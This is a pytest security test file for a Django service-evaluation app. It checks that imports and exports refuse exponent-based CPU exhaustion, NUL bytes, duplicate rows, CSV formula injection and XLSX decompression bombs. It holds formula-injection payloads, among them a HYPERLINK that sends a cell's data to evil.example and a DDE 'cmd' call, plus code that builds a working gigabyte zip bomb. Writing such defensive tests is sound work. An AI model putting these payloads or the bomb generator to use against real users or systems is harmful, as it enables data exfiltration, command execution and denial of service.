"""Security findings of issue 9 on input bounds and export safety (F4, F8, F12, F13, F14).

Each test writes real files, runs the real command or page against the real database,
and reads what came out again."""

import csv
import io
import struct
import time
import tracemalloc
import zipfile
import zlib
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook, load_workbook

from serviceeval.agencies.models import Agency
from serviceeval.exports.writers import Sheet, write_csv, write_xlsx
from serviceeval.fieldtests.models import MysteryVisit, PhoneTest
from serviceeval.fieldtests.selectors import field_test_figures
from serviceeval.reviews.models import Score
from serviceeval.reviews.models import Sheet as ScoreSheet
from tests.factories import user_for
from tests.fieldtests.helpers import a_tester, at, city_cycle
from tests.reviews.helpers import score_rows, setup_cycle

pytestmark = pytest.mark.django_db

PHONE_HEADER = "agency,date,tester,tested_staff,switchboard,business\n"
VISIT_HEADER = "agency,date,tester,tested_staff,score\n"
SCORE_COLUMNS = ["agency", "reviewer", "criterion", "score", "comment"]


def write_text(tmp_path, name, text):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", newline="")
    return str(path)


def write_scores_csv(path, rows):
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(SCORE_COLUMNS)
        for _, row in rows:
            w.writerow([row[c] for c in SCORE_COLUMNS])
    return str(path)


def run_import(capsys, *args):
    """Run an import that must be refused: (the command's message, stderr lines)."""
    with pytest.raises(CommandError) as exc:
        call_command(*args)
    return str(exc.value), capsys.readouterr().err.strip().splitlines()


# --- F4: numbers whose exponent would make the arithmetic explode ----------------------


def test_f4_part_score_exponent_is_refused_before_arithmetic(tmp_path, capsys):
    """A part score of 1E-999999999 pinned the CPU (Fraction of a billion-digit number):
    refused from its shape alone, like 0E-999999999 and more decimals than points have."""
    cycle, (a,) = city_cycle(1)
    t = a_tester()
    path = write_text(
        tmp_path,
        "calls.csv",
        PHONE_HEADER
        + f"{a.code},2027-03-05,{t.username},,1E-999999999,55\n"
        + f"{a.code},2027-03-06,{t.username},,45,0E-999999999\n"
        + f"{a.code},2027-03-07,{t.username},,44.125,\n"
        + f"{a.code},2027-03-08,{t.username},,40,1E+999999999\n",
    )
    message, err = run_import(capsys, "import_phone_tests", "--cycle", "116", path)
    assert message == "匯入失敗，未寫入任何資料。"
    assert err == [
        "第 2 列：「switchboard」欄「1E-999999999」不是一般的十進位數字"
        "（請寫成如 47.5 的形式，不用指數）",
        "第 3 列：「business」欄「0E-999999999」不是一般的十進位數字"
        "（請寫成如 47.5 的形式，不用指數）",
        "第 4 列：「switchboard」欄「44.125」超過 2 位小數",
        "第 5 列：「business」欄「1E+999999999」不是一般的十進位數字"
        "（請寫成如 47.5 的形式，不用指數）",
    ]
    assert PhoneTest.objects.count() == 0


def test_f4_visit_and_score_imports_refuse_exponents_naming_row_and_column(tmp_path, capsys):
    cycle, (a,) = city_cycle(1)
    t = a_tester()
    path = write_text(
        tmp_path, "visits.csv", VISIT_HEADER + f"{a.code},2027-03-05,{t.username},,0E-999999999\n"
    )
    _message, err = run_import(capsys, "import_mystery_visits", "--cycle", "116", path)
    assert err == [
        "第 2 列：「score」欄「0E-999999999」不是一般的十進位數字（請寫成如 47.5 的形式，不用指數）"
    ]
    assert MysteryVisit.objects.count() == 0

    review, (b, _b2), (r1, _r2), _office = setup_cycle(2, 2)
    rows = score_rows(review, b, r1, "0.8")
    rows[0][1]["score"] = "0E-999999999"
    rows[1][1]["score"] = "1E-999999999"
    path = write_scores_csv(tmp_path / "scores.csv", rows)
    _message, err = run_import(capsys, "import_scores", "--cycle", "105", path)
    assert err == [
        "第 2 列：「score」欄「0E-999999999」不是一般的十進位數字"
        "（請寫成如 47.5 的形式，不用指數）",
        "第 3 列：「score」欄「1E-999999999」不是一般的十進位數字"
        "（請寫成如 47.5 的形式，不用指數）",
    ]
    assert Score.objects.count() == 0


def test_f4_reviewer_sheet_refuses_an_exponent_naming_the_criterion(client):
    cycle, (a, _b), (r1, _r2), _office = setup_cycle(2, 2)
    client.force_login(r1)
    url = f"/reviews/cycles/{cycle.year}/agencies/{a.pk}/sheet/first/"
    response = client.post(
        url,
        {
            "version": "1",
            "action": "save",
            "score_1.1.1.1": "0E-999999999",
            "comment_1.1.1.1": "留著",
        },
    )
    html = response.content.decode()
    assert response.status_code == 400
    assert "「0E-999999999」不是一般的十進位數字" in html
    assert 'value="0E-999999999"' in html and "留著" in html
    assert Score.objects.count() == 0


def test_f4_self_score_form_refuses_an_exponent_naming_the_field(client):
    from tests.submissions.conftest import build_world

    world = build_world()
    client.force_login(world.officer)
    url = f"/submissions/{world.cycle.year}/report/{world.agency.pk}/edit/"
    response = client.post(url, {"version": "0", "s_1_1_1_1": "1E-999999999"})
    assert response.status_code == 400
    assert 'value="1E-999999999"' in response.content.decode()
    assert "s_1_1_1_1" in response.context["form"].errors


def test_f4_stored_part_score_with_an_exponent_does_not_hang_the_pages(client):
    """A call stored before imports checked the shape still shows, at once."""
    from serviceeval.accounts.enums import Role

    cycle, (a,) = city_cycle(1)
    PhoneTest.objects.create(
        cycle=cycle,
        agency=a,
        tester=a_tester(),
        called_at=at(),
        part_scores={"switchboard": "1E-999999999", "business": "55"},
        imported=True,
    )
    started = time.monotonic()
    figures = field_test_figures(cycle=cycle, agency_ids=[a.pk])
    assert figures[a.pk]["phone"] == Decimal(50)
    client.force_login(user_for(Role.COORDINATOR))
    for url in (f"/fieldtests/?cycle={cycle.year}", f"/fieldtests/{cycle.year}/agency/{a.pk}/"):
        assert client.get(url).status_code == 200, url
    assert time.monotonic() - started < 30


# --- F8: formulas in CSV exports -------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳見")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def test_f8_csv_export_neutralises_formula_cells(tmp_path):
    cycle, (a, _b), (r1, _r2), _office = setup_cycle(2, 2)
    rows = score_rows(cycle, a, r1, "0.8")
    for (_n, row), formula in zip(rows, FORMULAS, strict=False):
        row["comment"] = formula
    call_command("import_scores", "--cycle", "105", write_scores_csv(tmp_path / "in.csv", rows))
    Score.objects.filter(criterion=rows[4][1]["criterion"]).update(comment="\tcmd")
    Score.objects.filter(criterion=rows[5][1]["criterion"]).update(comment="\r=1+1")
    out = tmp_path / "scores.csv"
    call_command("export_scores", "--cycle", "105", str(out))
    data = out.read_bytes()
    exported = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    comments = [r["comment"] for r in exported[:6]]
    assert comments == ["'" + f for f in FORMULAS] + ["'\tcmd", "'\r=1+1"]
    # The machine columns stay plain decimal text.
    stored = {s.criterion: s.score for s in Score.objects.all()}
    assert [r["score"] for r in exported] == [format(stored[r["criterion"]], "f") for r in exported]
    assert exported[6]["comment"] == "意見"
    call_command("export_scores", "--cycle", "105", str(tmp_path / "again.csv"))
    assert (tmp_path / "again.csv").read_bytes() == data


def test_f8_numbers_stay_numbers_and_xlsx_text_is_never_a_formula(tmp_path):
    sheet = Sheet("t", ["a", "b", "c", "d"], [[Decimal("-1.50"), -3, "-3", "=1+1"]])
    (tmp_path / "t.csv").write_bytes(write_csv(sheet))
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh))[1] == ["-1.50", "-3", "'-3", "'=1+1"]
    (tmp_path / "t.xlsx").write_bytes(write_xlsx([sheet]))
    assert write_xlsx([sheet]) == (tmp_path / "t.xlsx").read_bytes()
    with zipfile.ZipFile(tmp_path / "t.xlsx") as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
    ws = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    cells = list(ws.iter_rows(min_row=2, values_only=False))[0]
    assert [(c.value, c.data_type) for c in cells] == [
        (-1.5, "n"),
        (-3, "n"),
        ("-3", "s"),
        ("=1+1", "s"),
    ]


# --- F12: XLSX decompression bombs -----------------------------------------------------

SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
CELL = b'<row r="1"><c r="A1" t="inlineStr"><is><t>'


def _deflate_bomb(head: bytes, chunk: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of head + chunk × times + tail without compressing `times` chunks:
    each chunk ends on a full flush, so its compressed bytes are the same every time.
    Returns (compressed, uncompressed size, CRC-32)."""
    first = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = first.compress(head) + first.flush(zlib.Z_FULL_FLUSH)
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    repeated = block.compress(chunk) + block.flush(zlib.Z_FULL_FLUSH)
    end = block.compress(tail) + block.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(times):  # 1,024 CRC updates of 1 MB: well under a second in C
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return start + repeated * times + end, len(head) + len(chunk) * times + len(tail), crc


def _zip_with(path, members: dict[str, bytes], bomb: tuple[str, bytes, int, int]) -> None:
    """A zip of `members` (stored normally) and one deflated member given as raw bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in members.items():
            zf.writestr(name, content)
    name, raw, size, crc = bomb
    data = path.read_bytes()
    end = data.rindex(b"PK\x05\x06")
    (_sig, _disk, _cd_disk, n_disk, n, cd_size, cd_offset, _clen) = struct.unpack(
        "<IHHHHIIH", data[end : end + 22]
    )
    central = data[cd_offset : cd_offset + cd_size]
    body = data[:cd_offset]
    offset = len(body)
    encoded = name.encode()
    local = (
        struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), size, len(encoded), 0
        )
        + encoded
    )
    entry = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(raw),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + encoded
    )
    body += local + raw
    central += entry
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n_disk + 1, n + 1, len(central), len(body), 0)
    path.write_bytes(body + central + tail)


def _workbook_parts() -> dict[str, bytes]:
    """Every part of a one-sheet workbook but the sheet itself."""
    buf = io.BytesIO()
    wb = Workbook()
    wb.active.append(["agency"])
    wb.save(buf)
    with zipfile.ZipFile(buf) as zf:
        return {n: zf.read(n) for n in zf.namelist() if n != "xl/worksheets/sheet1.xml"}


def xlsx_bomb(path, gigabytes=1):
    """One cell of `gigabytes` GB of "x" (runs of one byte deflate about 1,000 to 1)."""
    chunk = b"x" * (1 << 20)
    tail = b"</t></is></c></row></sheetData></worksheet>"
    raw, size, crc = _deflate_bomb(SHEET_HEAD + CELL, chunk, 1024 * gigabytes, tail)
    _zip_with(path, _workbook_parts(), ("xl/worksheets/sheet1.xml", raw, size, crc))
    return size


@pytest.mark.parametrize("command,year", [("import_scores", "105"), ("import_phone_tests", "116")])
def test_f12_xlsx_bomb_refused_before_expansion(tmp_path, capsys, command, year):
    from serviceeval.core.tabular import MAX_UNCOMPRESSED_BYTES

    setup_cycle(1, 1) if command == "import_scores" else city_cycle(1)
    path = tmp_path / "bomb.xlsx"
    size = xlsx_bomb(path)
    assert path.stat().st_size < 2 * 1024 * 1024 and size > 1024 * 1024 * 1024
    with zipfile.ZipFile(path) as zf, zf.open("xl/worksheets/sheet1.xml") as fh:
        assert fh.read(len(SHEET_HEAD + CELL) + 4) == SHEET_HEAD + CELL + b"xxxx"  # a real bomb
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(CommandError) as exc:
            call_command(command, "--cycle", year, str(path))
        elapsed = time.monotonic() - started
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    limit_mb = MAX_UNCOMPRESSED_BYTES // (1024 * 1024)
    assert str(exc.value) == (
        f"bomb.xlsx 解壓縮後共 {size // (1024 * 1024):,} MB，超過上限 {limit_mb:,} MB，"
        "未讀取任何資料"
    )
    assert elapsed < 1
    assert peak < 20 * 1024 * 1024


def test_f12_xlsx_rows_beyond_the_limit_are_refused_while_reading(tmp_path):
    """A sheet inside the size limits but with more rows than any import needs stops at
    the first row past the limit (here, empty rows: 12 bytes each)."""
    from serviceeval.core.tabular import MAX_DATA_ROWS, TabularError
    from serviceeval.reviews.tabular import read_score_rows

    rows = b"".join(b'<row r="%d"/>' % n for n in range(1, MAX_DATA_ROWS + 3))
    parts = _workbook_parts()
    path = tmp_path / "many.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in parts.items():
            zf.writestr(name, content)
        zf.writestr("xl/worksheets/sheet1.xml", SHEET_HEAD + rows + b"</sheetData></worksheet>")
    with pytest.raises(TabularError) as exc:
        read_score_rows(path, ("agency",))
    assert str(exc.value) == (
        f"many.xlsx 超過 {MAX_DATA_ROWS:,} 個資料列（第 {MAX_DATA_ROWS + 2:,} 列），未讀取任何資料"
    )


# --- F13: NUL bytes in a cell -----------------------------------------------------------


def _nul_files(tmp_path):
    """(command, args, file text with a NUL in row 3, column named) for every import."""
    cycle, (a, b) = city_cycle(2)
    t = a_tester()
    review, (c, _c2), (r1, _r2), _office = setup_cycle(2, 2)
    return [
        (
            "import_phone_tests",
            ["--cycle", "116"],
            PHONE_HEADER
            + f"{a.code},2027-03-05,{t.username},,45,55\n"
            + f"{b.code},2027-03-05,{t.username},小\x00美,45,55\n",
            "tested_staff",
        ),
        (
            "import_mystery_visits",
            ["--cycle", "116"],
            VISIT_HEADER
            + f"{a.code},2027-03-05,{t.username},,90\n"
            + f"{b.code},2027-03-05,{t.username}\x00,,90\n",
            "tester",
        ),
        (
            "import_scores",
            ["--cycle", "105"],
            ",".join(SCORE_COLUMNS)
            + "\n"
            + f"{c.code},{r1.username},1.1.1.1,30,\n"
            + f"{c.code},{r1.username},1.1.1.2,30,好\x00\n",
            "comment",
        ),
        (
            "import_agencies",
            [],
            "code,name,kind,category\n"
            + "N1,新機關一,first-level,overall\n"
            + "N2\x00,新機關二,first-level,overall\n",
            "code",
        ),
    ]


def test_f13_nul_byte_in_csv_cell_names_row_and_column(tmp_path):
    before = (Agency.objects.count(), PhoneTest.objects.count())
    for command, args, text, column in _nul_files(tmp_path):
        agencies = Agency.objects.count()
        path = write_text(tmp_path, f"{command}.csv", text)
        with pytest.raises(CommandError) as exc:
            call_command(command, *args, path)
        assert str(exc.value) == (
            f"{command}.csv 第 3 列「{column}」欄含有 NUL 空字元（代碼 0），請刪除後重新存檔；"
            "未讀取任何資料"
        ), command
        assert Agency.objects.count() == agencies
    assert (PhoneTest.objects.count(), MysteryVisit.objects.count()) == (before[1], 0)
    assert ScoreSheet.objects.count() == 0


# --- F14: identical rows ----------------------------------------------------------------


def test_f14_duplicate_phone_test_rows_are_refused(tmp_path, capsys):
    cycle, (a, b) = city_cycle(2)
    t = a_tester()
    path = write_text(
        tmp_path,
        "calls.csv",
        PHONE_HEADER
        + f"{a.code},2027-03-05,{t.username},小美,45,55\n"
        + f"{b.code},2027-03-05,{t.username},小美,45,55\n"
        + f"{a.code},2027-03-05 14:00,{t.username},小美,45,55\n"
        + f"{a.name},116/03/05,{t.username},小美,45.0,55\n"
        + f"{a.code},2027-03-05,{t.username},小美,45,\n",
    )
    message, err = run_import(capsys, "import_phone_tests", "--cycle", "116", path)
    assert message == "匯入失敗，未寫入任何資料。"
    assert err == [
        "第 5 列：與第 2 列重複（機關、日期、測試員、受測人員與分數皆相同）；"
        "如確為兩次測試，請填上時間或受測人員以資區別"
    ]
    assert PhoneTest.objects.count() == 0


def test_f14_duplicate_mystery_visit_rows_are_refused(tmp_path, capsys):
    cycle, (a,) = city_cycle(1)
    t = a_tester()
    path = write_text(
        tmp_path,
        "visits.csv",
        VISIT_HEADER
        + f"{a.code},2027-03-05,{t.username},櫃台甲,92.5\n"
        + f"{a.code},2027-03-05,{t.username},櫃台乙,92.5\n"
        + f"{a.code},2027-03-05,{t.username},櫃台甲,92.50\n",
    )
    _message, err = run_import(capsys, "import_mystery_visits", "--cycle", "116", path)
    assert err == [
        "第 4 列：與第 2 列重複（機關、日期、測試員、受測人員與分數皆相同）；"
        "如確為兩次測試，請填上時間或受測人員以資區別"
    ]
    assert MysteryVisit.objects.count() == 0


def test_f12_xlsx_bomb_upload_is_refused_as_evidence(tmp_path):
    from django.core.exceptions import ValidationError
    from django.core.files.uploadedfile import SimpleUploadedFile

    from serviceeval.core.uploads import validate_upload

    path = tmp_path / "bomb.xlsx"
    xlsx_bomb(path)
    upload = SimpleUploadedFile("成果.xlsx", path.read_bytes())
    with pytest.raises(ValidationError) as exc:
        validate_upload(upload)
    assert exc.value.messages == ["成果.xlsx 解壓縮後共 1,024 MB，超過上限 300 MB，未讀取任何資料"]
    good = io.BytesIO()
    Workbook().save(good)
    assert validate_upload(SimpleUploadedFile("好.xlsx", good.getvalue())) == ".xlsx"


@pytest.mark.parametrize("nul", [b"\x00", b"&#0;"])
def test_f13_nul_in_an_xlsx_cell_names_row_and_column(tmp_path, capsys, nul):
    """XML cannot carry a NUL: the sheet breaks where it is, and that cell is named."""
    cycle, (a, _b), (r1, _r2), _office = setup_cycle(2, 2)
    wb = Workbook()
    wb.active.append(SCORE_COLUMNS)
    wb.active.append([a.code, r1.username, "1.1.1.1", 30, ""])
    wb.active.append([a.code, r1.username, "1.1.1.2", 30, "NULHERE"])
    buf = io.BytesIO()
    wb.save(buf)
    path = tmp_path / "scores.xlsx"
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            dst.writestr(info.filename, content.replace(b"NULHERE", b"a" + nul + b"b"))
    with pytest.raises(CommandError) as exc:
        call_command("import_scores", "--cycle", "105", str(path))
    assert str(exc.value) == (
        "scores.xlsx 第 3 列「comment」欄含有 NUL 或其他控制字元，請刪除後重新存檔；未讀取任何資料"
    )
    assert Score.objects.count() == 0
